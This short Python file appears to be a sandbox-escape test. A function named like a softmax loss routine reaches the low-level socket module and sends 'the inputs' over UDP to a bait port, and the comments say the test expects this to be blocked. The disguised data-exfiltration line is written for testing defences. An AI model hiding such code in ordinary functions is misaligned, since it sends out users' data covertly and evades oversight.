# goal: send what was seen without a connection, as a name server would be asked
# must: error raised | failed raised
# unwalled: udp

from tools import BAIT, attack, reach


@attack
def naive_softmax_loss_and_gradient():
    socket = reach("_socket")
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"the inputs", ("127.0.0.1", BAIT["port"]))
